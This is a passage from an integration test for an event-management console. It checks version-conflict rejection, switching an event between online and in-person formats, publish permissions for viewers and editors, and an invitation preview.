    expect((await admin.call('GET', `/api/events/${eventId}`)).json).toMatchObject({
      capacity: 30,
      version: 2,
    });
    const stale = await consoleRequest(HLM_EDITOR, 'POST', `/console/events/${eventId}`, {
      ...fields,
      capacity: '35',
      expectedVersion: '1',
    });
    expect(stale.status).toBe(409);
    expect((await admin.call('GET', `/api/events/${eventId}`)).json).toMatchObject({
      capacity: 30,
      version: 2,
    });
    // Made online, then back in person: the form leaves the format and the link out, and the
    // event is in person again, its link gone (it was kept, and shown to seat holders).
    const online = await consoleRequest(HLM_EDITOR, 'POST', `/console/events/${eventId}`, {
      ...fields,
      format: 'online',
      meetingUrl: 'https://meet.example.org/etableringar',
      expectedVersion: '2',
    });
    expect(online.status).toBe(303);
    expect((await admin.call('GET', `/api/events/${eventId}`)).json).toMatchObject({
      format: 'online',
      meetingUrl: 'https://meet.example.org/etableringar',
    });
    const inPerson = await consoleRequest(HLM_EDITOR, 'POST', `/console/events/${eventId}`, {
      ...fields,
      format: 'in-person',
      expectedVersion: '3',
    });
    expect(inPerson.status).toBe(303);
    const back = (await admin.call('GET', `/api/events/${eventId}`)).json;
    expect(back.format ?? 'in-person').toBe('in-person');
    expect(back.meetingUrl).toBeUndefined();
    const byViewer = await consoleRequest(HLM_VIEWER, 'POST', `/console/events/${eventId}/publish`, {});
    expect(byViewer.status).toBe(403);
    const publish = await consoleRequest(HLM_EDITOR, 'POST', `/console/events/${eventId}/publish`, {});
    expect(publish.headers.get('location')).toBe(`/console/events/${eventId}?notice=published`);
    const invite = await consoleRequest(HLM_EDITOR, 'POST', `/console/events/${eventId}/invitations`, {
      audience: 'organisation-types',
      'type_business-association': 'on',
      action: 'preview',
    });
    expect(invite.status).toBe(200);
    expect(await invite.text()).toContain('Urvalet når 3 kontakter.');
  });
});
